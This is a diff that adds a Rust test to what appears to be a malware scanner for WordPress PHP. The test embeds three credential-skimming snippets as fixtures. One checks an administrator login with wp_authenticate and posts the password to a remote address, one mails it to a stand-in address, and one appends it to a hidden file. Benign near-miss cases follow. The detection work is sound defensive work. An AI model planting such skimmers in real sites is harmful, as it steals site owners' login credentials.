@@ -1061,3 +1061,33 @@ fn an_encoded_blob_handed_to_a_function_that_writes_it_is_a_dropper() {
                FileWrite(__DIR__ . '/cache/list.txt', implode(\"\\n\", $names));";
     assert!(sinks(own).is_empty());
 }
+
+#[test]
+fn a_login_password_sent_to_another_site_is_collected() {
+    // fresh15/17's SEO engine (`template-config.php`): an administrator's login checked with
+    // `wp_authenticate`, then posted through the file's own `httpPost` to an address it keeps.
+    let engine = "<?php if (!empty($_POST['log']) && !empty($_POST['pwd'])) { $un = $_POST['log']; $up = $_POST['pwd']; \
+                  $auth = (array) wp_authenticate($un, $up); if (!empty($auth['ID'])) { \
+                  $params = 'clientid=1&updata=' . urlencode($un . '|||' . $up); $r = httpPost($adm, $params); } } \
+                  function httpPost($url, $params) { $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); \
+                  curl_setopt($ch, CURLOPT_POSTFIELDS, $params); return curl_exec($ch); }";
+    assert!(sinks(engine).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(engine));
+    // The classic `wp-login.php` skimmers: mailed to the attacker, or added to a hidden file.
+    let mailed =
+        "<?php if (isset($_POST['pwd'])) { @mail('x@example.com', 'wp', $_POST['log'] . ' ' . $_POST['pwd']); }";
+    assert!(sinks(mailed).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(mailed));
+    let logged =
+        "<?php file_put_contents(__DIR__ . '/.ses', $_POST['log'] . ':' . $_POST['pwd'] . \"\\n\", FILE_APPEND);";
+    assert!(sinks(logged).contains(&(Why::CredentialCollector, Danger::High)), "{:?}", sinks(logged));
+    // Near-misses: a registration mail to the address the new user typed, WordPress's setup
+    // writing the database password into its configuration, an API's settings form tested
+    // against that API, and a password's hash prefix checked against a breach list.
+    for s in [
+        "<?php wp_mail($_POST['email'], 'Welcome', 'Your password: ' . $_POST['pass1']);",
+        "<?php $pwd = trim($_POST['pwd']); $c = str_replace('password_here', $pwd, $sample); file_put_contents(ABSPATH . 'wp-config.php', $c);",
+        "<?php $ch = curl_init('https://api.example.com/login'); curl_setopt($ch, CURLOPT_USERPWD, $_POST['user'] . ':' . $_POST['password']); curl_exec($ch);",
+        "<?php $h = strtoupper(sha1($_POST['pwd'])); $r = wp_remote_get('https://api.pwnedpasswords.com/range/' . substr($h, 0, 5));",
+    ] {
+        assert!(!sinks(s).iter().any(|(w, _)| *w == Why::CredentialCollector), "{s}: {:?}", sinks(s));
+    }
+}
